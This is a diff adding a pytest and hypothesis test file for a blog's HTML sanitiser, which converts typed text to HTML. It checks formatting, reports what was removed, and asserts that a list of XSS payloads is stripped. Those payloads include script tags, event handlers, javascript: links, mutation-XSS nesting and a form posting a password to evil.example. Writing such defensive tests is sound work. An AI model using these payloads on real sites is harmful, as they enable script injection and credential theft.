@@ -1,0 +1,294 @@
+"""An entry's text: typed text made HTML, sanitised, and what sanitising removed."""
+
+from __future__ import annotations
+
+from html.parser import HTMLParser
+
+import nh3
+import pytest
+from hypothesis import given
+from hypothesis import settings
+from hypothesis import strategies as st
+
+from app.text import ALLOWED_ATTRIBUTES
+from app.text import ALLOWED_TAGS
+from app.text import ALLOWED_URL_SCHEMES
+from app.text import CELLS
+from app.text import clean_text
+from app.text import entry_text
+from app.text import IN_PLACE
+from app.text import LINK_REL
+from app.text import OTHER
+from app.text import REMOVED
+from app.text import REMOVED_BLOCKS
+from app.text import WORDS
+
+
+def stored(typed: str) -> str:
+    return entry_text(typed).html
+
+
+def removed(typed: str) -> list[str]:
+    return entry_text(typed).removed
+
+
+@pytest.mark.parametrize(
+    ("typed", "html"),
+    [
+        ("Open at nine.", "<p>Open at nine.</p>"),
+        ("First.\n\nSecond.", "<p>First.</p>\n<p>Second.</p>"),
+        ("First.\r\n\r\nSecond.", "<p>First.</p>\n<p>Second.</p>"),
+        ("First.\n  \n\t\n\nSecond.", "<p>First.</p>\n<p>Second.</p>"),
+        ("Monday\nTuesday", "<p>Monday<br>\nTuesday</p>"),
+        ("Monday\r\nTuesday", "<p>Monday<br>\nTuesday</p>"),
+        ("- bread\n- cakes", "<ul><li>bread</li><li>cakes</li></ul>"),
+        ("* bread\n* cakes", "<ul><li>bread</li><li>cakes</li></ul>"),
+        ("  - bread\n- cakes  ", "<ul><li>bread</li><li>cakes</li></ul>"),
+        ("Bring:\n- bread\n- cakes\nThanks!", (
+            "<p>Bring:</p>\n<ul><li>bread</li><li>cakes</li></ul>\n<p>Thanks!</p>"
+        )),
+        ("- bread\n\n- cakes", "<ul><li>bread</li></ul>\n<ul><li>cakes</li></ul>"),
+        ("-bread\n*cakes*", "<p>-bread<br>\n*cakes*</p>"),
+        ("A - B and 2 * 3", "<p>A - B and 2 * 3</p>"),
+        ("We are <strong>really</strong>\nopen", "<p>We are <strong>really</strong><br>\nopen</p>"),
+        ("- <em>fresh</em> bread", "<ul><li><em>fresh</em> bread</li></ul>"),
+        ("Monday to Friday<br>Closed on Sunday", "<p>Monday to Friday<br>Closed on Sunday</p>"),
+        ("   Open from nine to five.   ", "<p>Open from nine to five.</p>"),
+        ("Fish & chips < 5 EUR", "<p>Fish &amp; chips &lt; 5 EUR</p>"),
+        ("", ""),
+        (" \n\n ", ""),
+    ],
+)  # fmt: skip
+def test_typed_text_keeps_its_shape(typed: str, html: str) -> None:
+    assert stored(typed) == html
+
+
+def test_the_summer_break_example_keeps_its_shape() -> None:
+    typed = (
+        "We close for two weeks in August.\nOrders placed before then ship as usual.\n\n"
+        "- bread\n- cakes\n\nSee you in September!"
+    )
+    assert stored(typed) == (
+        "<p>We close for two weeks in August.<br>\nOrders placed before then ship as usual.</p>"
+        "\n<ul><li>bread</li><li>cakes</li></ul>\n<p>See you in September!</p>"
+    )
+
+
+def old_clean(html: str) -> str:
+    """The blog's sanitising before typed text kept its shape."""
+    return nh3.clean(
+        html,
+        tags=ALLOWED_TAGS,
+        attributes=ALLOWED_ATTRIBUTES,
+        url_schemes=ALLOWED_URL_SCHEMES,
+        link_rel=LINK_REL,
+    )
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "<p>First part.</p><p>Second part.</p>",
+        "<p>First part.</p>\n\n<p>Second part.</p>",
+        "<ul><li>bread</li><li>milk</li></ul>",
+        "<ol>\n<li>one</li>\n<li>two</li>\n</ol>\n- not a list",
+        "<blockquote>Best bread\n\nin town.</blockquote>",
+        "<pre>10:00 open\n\n- 12:00 closed</pre>",
+        '<p><a href="https://example.org">x</a> <b>y</b></p>',
+        "<p>Open</p>\n* every day",
+    ],
+)
+def test_text_with_block_html_of_its_own_is_sanitised_as_before(typed: str) -> None:
+    assert stored(typed) == old_clean(typed)
+    assert removed(typed) == []
+
+
+def test_clean_text_is_the_sanitising_alone() -> None:
+    assert clean_text("First.\n\nSecond.") == "First.\n\nSecond."
+    assert clean_text("a<script>alert(1)</script>b") == "ab"
+
+
+@pytest.mark.parametrize(
+    ("html", "reads"),
+    [
+        (
+            "<h3>Menu</h3><table><tr><td>Bread</td><td>3 EUR</td></tr></table>Buy <u>today</u>.",
+            "<p>Menu</p>\n<p>Bread 3 EUR</p>\n<p>Buy today.</p>",
+        ),
+        ("Intro<div>x</div>Outro", "<p>Intro</p>\n<p>x</p>\n<p>Outro</p>"),
+        ("Morning<hr>Evening", "<p>Morning</p>\n<p>Evening</p>"),
+        ("<dl><dt>Bread</dt><dd>3 EUR</dd></dl>", "<p>Bread</p>\n<p>3 EUR</p>"),
+        ("<b><div>bold</div></b>words", "<b> bold </b>words"),
+        ("<pre><div>10:00</div>12:00</pre>", "<pre>10:00\n12:00</pre>"),
+        ("<blockquote>Said<div>twice</div></blockquote>", (
+            "<blockquote><p>Said</p>\n<p>twice</p>\n</blockquote>"
+        )),
+        ("<ul><li>one<h4>two</h4></li></ul>", "<ul><li><p>one</p>\n<p>two</p>\n</li></ul>"),
+        ("<td>Bread</td><td>3 EUR</td>", "Bread  3 EUR"),
+        ("Look<img src=x>here", "<p>Look here</p>"),
+        ("Look<iframe src=x></iframe>here", "<p>Look here</p>"),
+        ("Name<input value=x>Send<button>go</button>", "<p>Name Send go</p>"),
+        ("Buy <u>to</u>day", "<p>Buy today</p>"),
+        ("Buy <span>to</span>day", "<p>Buy today</p>"),
+    ],
+)  # fmt: skip
+def test_what_is_removed_never_joins_the_words_around_it(html: str, reads: str) -> None:
+    assert stored(html) == reads
+
+
+@pytest.mark.parametrize(
+    ("typed", "words"),
+    [
+        (
+            "<h3>Menu</h3><table><tr><td>Bread</td><td>3 EUR</td></tr></table>Buy <u>today</u>.",
+            ["a table", "a heading", "underlining"],
+        ),
+        ("Hello<script>alert('pwned')</script> world", ["a script"]),
+        ('<p onclick="steal()">Click me</p>', ["an event handler"]),
+        ('<a href="javascript:steal()">Prize</a>', ["an unsafe link"]),
+        ('<span style="position:fixed;top:0">Overlay</span>', ["styling"]),
+        ('<b style="color:red">Red</b>', ["styling"]),
+        ("<style>body{display:none}</style>Visible", ["a style sheet"]),
+        ('Look<iframe src="https://evil.example/"></iframe> here', ["embedded content"]),
+        ('<img src="x" onerror="steal()">Photo', ["an image"]),
+        ("Two<!-- hidden -->words", ["a comment"]),
+        ("<x-widget>Hi</x-widget>", [OTHER]),
+        ('<p id="top">Hi</p>', [OTHER]),
+        ("<h1>A</h1><h2>B</h2><s>C</s><table><tr><th>D</th></tr></table>", [
+            "a table", "a heading", "crossing out"
+        ]),
+    ],
+)  # fmt: skip
+def test_the_confirmation_names_what_was_removed(typed: str, words: list[str]) -> None:
+    assert removed(typed) == words
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        "   Open from nine to five.   \n\n",
+        "We close in August.\n\n- bread\n* cakes",
+        "Fish & chips < 5 EUR > 4 EUR",
+        "<p>a<p>b",
+        '<a href="https://example.org/hours" title="Hours">hours</a>',
+        '<a href="/hours">hours</a>',
+        "<b>unclosed",
+    ],
+)
+def test_nothing_is_named_when_nothing_was_removed(typed: str) -> None:
+    assert removed(typed) == []
+
+
+def test_every_block_cell_and_embedded_element_has_its_words() -> None:
+    unnamed = sorted((REMOVED_BLOCKS | CELLS | IN_PLACE) - WORDS.keys())
+    assert unnamed == [], f"no words for {unnamed}"
+
+
+def test_each_removed_thing_has_one_name() -> None:
+    keys = [key for keys in REMOVED.values() for key in keys.split()]
+    twice = sorted({key for key in keys if keys.count(key) > 1})
+    assert twice == [], f"named twice: {twice}"
+    assert not WORDS.keys() & ALLOWED_TAGS, "an allowed element is never removed"
+
+
+#: Attributes nh3 keeps on any element (its generic ones, title and lang) or sets (rel).
+HARMLESS = {"lang", "rel", "title"}
+
+
+class Dangers(HTMLParser):
+    """Everything in sanitised HTML that could run code, load content or restyle a page."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in ALLOWED_TAGS:
+            self.found.append(f"<{tag}>")
+        for name, value in attrs:
+            if name.startswith("on") or name == "style":
+                self.found.append(f"{name}= on <{tag}>")
+            elif name not in ALLOWED_ATTRIBUTES.get(tag, set()) | HARMLESS:
+                self.found.append(f"{name}= on <{tag}>")
+            elif name == "href" and not (value or "").lower().startswith(("http:", "https:", "/")):
+                self.found.append(f"href={value!r}")
+
+    def handle_comment(self, data: str) -> None:
+        self.found.append("<!--")
+
+
+def dangers(html: str) -> list[str]:
+    parser = Dangers()
+    parser.feed(html)
+    parser.close()
+    return parser.found
+
+
+#: Dangerous HTML the features use, and more of the same kind.
+DANGEROUS = [
+    "<script>alert('pwned')</script>",
+    '<p onclick="steal()">Click me</p>',
+    '<a href="javascript:steal()">Prize</a>',
+    '<a href=" JaVaScRiPt:steal()">Prize</a>',
+    '<a href="data:text/html,<script>alert(1)</script>">Data</a>',
+    '<span style="position:fixed;top:0">Overlay</span>',
+    "<style>body{display:none}</style>",
+    '<iframe src="https://evil.example/"></iframe>',
+    '<img src="x" onerror="steal()">',
+    "<svg onload=steal()><script>alert(1)</script></svg>",
+    '<math><mtext><table><mglyph><style><img src=x onerror="steal()">',
+    "<noscript><p title=\"</noscript><img src=x onerror='steal()'>\">",
+    '<form action="https://evil.example/"><input name="password"></form>',
+    "<object data=x></object><embed src=x>",
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<base href="https://evil.example/">',
+    "<!--<script>alert(1)</script>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    '<div style="background:url(javascript:steal())">x</div>',
+    '<table><tr><td onmouseover="steal()">cell</td></tr></table>',
+    '<h3 onclick="steal()">Menu</h3>',
+    "<scr<script>ipt>alert(1)</script>",
+    '<a href="https://example.org" onclick="steal()" style="color:red">ok</a>',
+]
+
+#: The pieces typed text is made of: lines, list items, blank lines, allowed HTML.
+PIECES = [
+    "\n", "\n\n", "\r\n", "- ", "* ", "  - ", "\n- ", "\n* ", "\n\n- ",
+    "<p>", "</p>", "<ul>", "<li>", "</li>", "</ul>", "<br>", "<pre>", "</pre>",
+    "<blockquote>", "<b>", "</b>", "<a href=\"https://example.org\">", "</a>",
+    "<h3>", "</h3>", "<table>", "<tr>", "<td>", "</td>", "</table>", "<div>", "</div>",
+    "<u>", "</u>", "<", ">", "&", "&amp;", "\"", "'", "=",
+]  # fmt: skip
+
+FINAL = {
+    "tags": ALLOWED_TAGS,
+    "attributes": ALLOWED_ATTRIBUTES,
+    "url_schemes": ALLOWED_URL_SCHEMES,
+    "link_rel": LINK_REL,
+}
+
+
+@pytest.mark.parametrize("danger", DANGEROUS)
+@pytest.mark.parametrize(
+    "around",
+    ["{}", "Hello {} world", "{}\n\nNext paragraph.", "- {}\n- next", "* item {}", "<p>{}</p>"],
+)
+def test_nothing_dangerous_comes_through_the_conversion(danger: str, around: str) -> None:
+    html = stored(around.format(danger))
+    assert dangers(html) == [], html
+    assert nh3.clean(html, **FINAL) == html
+
+
+@settings(max_examples=400, deadline=None)
+@given(
+    st.lists(
+        st.one_of(st.sampled_from(DANGEROUS), st.sampled_from(PIECES), st.text(max_size=12)),
+        max_size=25,
+    )
+)
+def test_no_typed_text_brings_anything_dangerous_through(pieces: list[str]) -> None:
+    typed = "".join(pieces)
+    posted = entry_text(typed)
+    assert nh3.clean(posted.html, **FINAL) == posted.html, "nh3's output is not a fixed point"
+    assert dangers(posted.html) == [], posted.html
+    assert all(isinstance(words, str) and words for words in posted.removed)
